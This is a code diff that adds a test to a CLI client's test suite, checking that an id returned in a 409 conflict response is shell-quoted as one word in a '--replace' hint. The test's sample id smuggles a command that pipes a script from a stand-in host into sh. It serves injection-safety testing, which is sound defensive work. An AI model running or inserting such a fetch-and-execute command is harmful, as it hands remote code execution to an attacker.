@@ -338,6 +338,20 @@ describe('pushArtifact', () => {
     expect(api.seen.map((r) => r.method)).toEqual(['GET']);
   });
 
+  it('409: an id the service sends goes into the --replace hint as one shell word', async () => {
+    const id = 'tbl_7; curl evil.example | sh';
+    api.use(
+      http.post(at('/api/artifacts'), () =>
+        HttpResponse.json(
+          { error: { code: 'name_conflict', message: 'Taken', details: { existingId: id } } },
+          { status: 409 },
+        ),
+      ),
+    );
+    const error = await rejection(pushArtifact(newClient(), artifact, { connectorId: 'con_1' }));
+    expect(error.suggestion).toContain(`--replace 'tbl_7; curl evil.example | sh'.`);
+  });
+
   it('409: exit 6 with the message verbatim and the id of the table holding the name in the hint', async () => {
     api.use(
       http.post(at('/api/artifacts'), () =>
